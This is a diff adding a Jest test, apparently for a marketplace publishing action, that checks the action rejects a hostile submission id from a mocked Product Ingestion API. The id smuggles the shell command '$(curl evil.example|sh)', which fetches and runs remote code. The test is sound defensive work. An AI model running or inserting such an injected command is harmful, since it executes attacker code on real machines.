@@ -325,6 +325,30 @@ describe('hostile answers through the Product Ingestion API', () => {
     expectNoPost(result)
   })
 
+  it('never re-triggers a running go-live listed under an id it does not accept (as the CPP path)', async () => {
+    const guid = pia.addProduct({ externalId: 'contoso-vm' })
+    const created = '2022-02-04T20:07:22.4220588Z'
+    const value = [
+      { id: `submission/${guid}/${PREVIEW}`, target: { targetType: 'preview' }, status: 'completed', result: 'succeeded', created },
+      { id: `submission/${guid}/$(curl evil.example|sh)`, target: { targetType: 'live' }, status: 'running', result: 'pending', created }
+    ]
+    pia.injectFault({
+      method: 'GET',
+      path: `/submission/${guid}`,
+      kind: 'status',
+      status: 200,
+      contentType: 'application/json',
+      body: JSON.stringify({ value })
+    })
+    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
+    expect(result.exitCode).toBe(1)
+    expect(result.outputs).toEqual({})
+    expect(result.stdout).toContain(
+      `::error::A go-live of the product is already running, but the service lists it under an id the action does not accept ('submission/${guid}/$(curl evil.example|sh)')`
+    )
+    expectNoPost(result)
+  })
+
   it('never takes live a product the lookup names under another external id', async () => {
     pia.addProduct({ externalId: 'contoso-vm' })
     const other = { id: 'product/11111111-2222-3333-4444-555555555555', identity: { externalId: 'someone-else' } }
